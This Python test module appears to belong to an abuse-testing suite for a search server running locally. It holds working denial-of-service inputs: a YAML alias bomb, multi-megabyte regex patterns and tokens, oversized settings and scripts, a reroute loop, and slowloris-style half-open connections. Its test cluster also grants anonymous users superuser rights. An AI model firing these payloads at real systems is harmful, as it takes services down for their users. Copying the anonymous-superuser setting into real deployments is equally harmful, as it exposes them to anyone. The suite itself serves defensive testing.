"""What a fifth attacker found on 30 November 2026: lengths that are looked at after the work, bodies and settings that nobody weighs, and connections that are always about to say something."""

import atexit
import json
import shutil
import socket
import tempfile
import time

from case import OK, REFUSED, Case, Lines, abandoned, acts, rested

ANY = OK + REFUSED
ONE = {"number_of_shards": 1, "number_of_replicas": 0}
MB = 1 << 20
FOLDER = tempfile.mkdtemp(prefix="abuse-lengths-")
atexit.register(shutil.rmtree, FOLDER, ignore_errors=True)
SETTINGS = ["xpack.security.enabled=true", "xpack.security.authc.anonymous.username=everybody", "xpack.security.authc.anonymous.roles=superuser", f"path.repo={FOLDER}"]
SETUP = [
    ("PUT", "/p", {"settings": ONE, "mappings": {"properties": {"t": {"type": "text"}}}}),
    ("PUT", "/p/_doc/1?refresh=true", {"t": "some words"}),
    ("PUT", "/_snapshot/r", {"type": "fs", "settings": {"location": f"{FOLDER}/r"}}),
    ("PUT", "/_snapshot/r/s?wait_for_completion=true", {"indices": "p", "include_global_state": False}),
    ("PUT", "/_security/role/tagged", lambda: {"metadata": {"x": [n % 10 for n in range(100_000)]}}),
    ("PUT", "/said", {"settings": ONE, "mappings": {"properties": {"c": {"type": "completion", "max_input_length": 20_000}}}}),
    ("PUT", "/_ingest/pipeline/long", lambda: {"processors": [{"set": {"field": "c", "value": "a" * 15_000}}]}),
    *[("POST", "/said/_bulk?pipeline=long&refresh=true", lambda: Lines([{"index": {}}, {}] * 500)) for _ in range(20)],
]
ON = [
    ("PUT", "/_ingest/pipeline/on", {"processors": [{"script": {"source": "ctx.n += 1; ctx.next = 'd' + ctx.n"}}, {"reroute": {"dataset": "{{next}}"}}]}),
    ("PUT", "/_index_template/on", {"index_patterns": ["on-*-x"], "template": {"settings": {"index.default_pipeline": "on"}}}),
]
OFF = [("DELETE", "/_index_template/on"), ("DELETE", "/_ingest/pipeline/on")]
CLASSES = "\\h" * (5 * MB // 2)
LETTERS = "a" * (7 * MB)
ZONES = "cluster.routing.allocation.awareness.force.zone.values"


def put_settings(body):
    return "PUT", "/_cluster/settings", body


def kept(name, part, count):
    """Settings that stay, in many small requests."""
    def act(server):
        for n in range(count):
            status, answer = server.send(*put_settings({"transient": part(n)}))
            yield status, answer[:300]
            if status == 429:
                break
    return acts(name, act, ANY, seconds=120, cleanup=[put_settings({"transient": {"cluster.metadata.*": None, "logger.*": None}})])


def yaml():
    return "a: &a [" + ",".join(["1"] * 100_000) + "]\nb: [" + ",".join(["*a"] * 95) + "]\n"


def simulated(name, processor, **more):
    return rested(f"simulate_{name}", "POST", "/_ingest/pipeline/_simulate", lambda: {"pipeline": {"processors": [processor()]}, "docs": [{"_source": {"a": "a"}}]}, **more)


def analyzed(name, text, **parts):
    return rested(f"analyze_{name}", "POST", "/_analyze", lambda: {"tokenizer": "keyword", **{key: part() for key, part in parts.items()}, "text": text()})


def filtered(kind, **more):
    """One token of 30 MB, most of whose characters are no ASCII."""
    return rested(f"long_{kind}", "POST", "/_analyze", lambda: {"tokenizer": "keyword", "filter": [{"type": kind, **more}], "text": "éb" * (10 * MB)})


def half_said(count, head_bytes, body_bytes):
    """Connections on each of which a request with a long head lacks the end of its body."""
    def act(server):
        filler = b"".join(b"x%d: %s\r\n" % (n, b"y" * 1_000) for n in range(head_bytes // 1_008))
        head = b"POST /p/_search HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n" + filler + b"Content-Length: 8100\r\n\r\n" + b" " * body_bytes
        held = []
        try:
            for _ in range(count):
                stream = socket.create_connection(("127.0.0.1", server.port), timeout=20)
                stream.sendall(head)
                held.append(stream)
        except OSError:
            pass
        time.sleep(3)
        status, answer = server.send("GET", "/p/_doc/1")
        for stream in held:
            stream.close()
        yield status, answer
    return acts(name_of(count, head_bytes, body_bytes), act, ANY, seconds=60)


def name_of(count, head_bytes, body_bytes):
    return f"half_said_{count}_{head_bytes}_{body_bytes}"


def half_headed(count):
    def act(server):
        head = b"GET /p/_search HTTP/1.1\r\nHost: a\r\nx: " + b"y" * 31_000
        held = []
        try:
            for _ in range(count):
                stream = socket.create_connection(("127.0.0.1", server.port), timeout=20)
                stream.sendall(head)
                held.append(stream)
        except OSError:
            pass
        time.sleep(3)
        status, answer = server.send("GET", "/p/_doc/1")
        for stream in held:
            stream.close()
        yield status, answer
    return acts(f"half_headed_{count}", act, ANY, seconds=60)


CASES = [
    # Settings of the cluster.
    Case("settings_list", *put_settings(lambda: json.dumps({"transient": {ZONES: "@"}}).replace('"@"', "[" + "0," * 500_000 + "0]")), ANY),
    Case("settings_list_clients", *put_settings(lambda: json.dumps({"transient": {ZONES: "@"}}).replace('"@"', "[" + "0," * 500_000 + "0]")), ANY, clients=4),
    Case("settings_yaml", *put_settings(yaml), ANY, headers={"Content-Type": "application/yaml"}),
    kept("settings_texts", lambda n: {f"cluster.metadata.a{n}": "x" * 1_000_000}, 300),
    kept("settings_loggers", lambda n: {f"logger.a{n}-{m}" + "x" * 80: "info" for m in range(9_000)}, 40),
    # Patterns.
    simulated("classes", lambda: {"gsub": {"field": "a", "pattern": CLASSES, "replacement": ""}}),
    simulated("classes_split", lambda: {"split": {"field": "a", "separator": CLASSES}}),
    analyzed("classes", lambda: "a", char_filter=lambda: [{"type": "pattern_replace", "pattern": CLASSES, "replacement": ""}]),
    analyzed("set", lambda: "a", filter=lambda: [{"type": "icu_folding", "unicode_set_filter": "[" + LETTERS + "]"}]),
    rested("entries_regexp", "POST", "/_security/_query/role", lambda: {"query": {"wildcard": {"name": "/" + LETTERS + "/"}}}),
    rested("keys_regexp", "DELETE", "/_security/api_key", lambda: {"name": "/" + LETTERS + "/"}),
    rested("restore_pattern", "POST", "/_snapshot/r/s/_restore?wait_for_completion=true", lambda: {"rename_pattern": LETTERS, "rename_replacement": "b"}),
    rested("template_pattern", "PUT", "/dynamic", lambda: {"mappings": {"dynamic_templates": [{"a": {"match": LETTERS, "match_pattern": "regex", "mapping": {}}}]}}),
    simulated("date_pattern", lambda: {"date": {"field": "a", "formats": ["yM" * (3 * MB)]}}),
    # Long tokens, whose characters are listed.
    *[filtered(kind) for kind in ("lowercase", "german_normalization", "arabic_normalization", "scandinavian_folding", "porter_stem", "brazilian_stem", "reverse", "asciifolding", "icu_folding", "fingerprint")],
    # A pattern of sources of as many levels, and a document of as many ignored fields.
    rested("source_levels", "POST", "/p/_search", lambda: {"_source": ["a." * (8 * MB)]}),
    Case("simulate_ignored", "POST", "/_ingest/_simulate", lambda: {"docs": [{"_index": "q", "_source": {f"a{n:06}": 1 for n in range(90_000)}}], "index_template_substitutions": {"q": {
        "index_patterns": ["q"], "template": {"settings": {"index.mapping.total_fields.limit": 10, "index.mapping.total_fields.ignore_dynamic_beyond_limit": True}}}}}, ANY, seconds=10),
    # A document whose pipeline makes up the name of the next index each time.
    Case("reroutes", "PUT", "/on-d0-x/_doc/1", {"n": 0}, 400, seconds=10, setup=ON, cleanup=OFF),
    Case("reroutes_simulated", "POST", "/_ingest/_simulate", {"docs": [{"_index": "on-d0-x", "_source": {"n": 0}}]}, 200, seconds=10, setup=ON, cleanup=OFF),
    # A whole document in a line of the log.
    rested("logged", "PUT", "/logged/_doc/1", lambda: {"a": ["y" * 30_000] * 1_000}, setup=[("PUT", "/logged", {"settings": {
        **ONE, "index.indexing.slowlog.source": True, "index.indexing.slowlog.threshold.index.warn": "0ms"}, "mappings": {"enabled": False}})]),
    # Templates that were copied to try one more.
    Case("simulate_index", "POST", "/_index_template/_simulate_index/x", {"index_patterns": ["x"]}, ANY, clients=8, setup=[
        ("PUT", f"/_component_template/wide{n}", lambda: {"template": {}, "_meta": {"l": [0] * 60_000}}) for n in range(8)],
        cleanup=[("DELETE", f"/_component_template/wide{n}") for n in range(8)]),
    # A script that may be as long as a body.
    rested("script", "POST", "/_scripts/painless/_execute", lambda: {"script": {"source": "int a = 1;" * (MB // 2)}}, setup=[put_settings({"transient": {"script.max_size_in_bytes": 100_000_000}})],
           cleanup=[put_settings({"transient": {"script.max_size_in_bytes": None}})]),
    # Sets that are compared with lists.
    abandoned("entries_terms", "POST", "/_security/_query/role", lambda: {"query": {"terms": {"metadata.x": [f"v{n}" for n in range(90_000)]}}}, clients=2),
    # The same text for each suggestion.
    rested("suggested", "POST", "/said/_search", {"suggest": {"s": {"prefix": "a", "completion": {"field": "c", "size": 10_000}}}}),
    rested("suggested_source", "POST", "/said/_search", {"_source": False, "suggest": {"s": {"prefix": "a", "completion": {"field": "c", "size": 10_000}}}}),
    # Connections.
    half_said(3_000, 100, 8_000),
    half_said(6_000, 100, 8_000),
    half_said(6_000, 15_000, 7_900),
    half_headed(6_000),
]
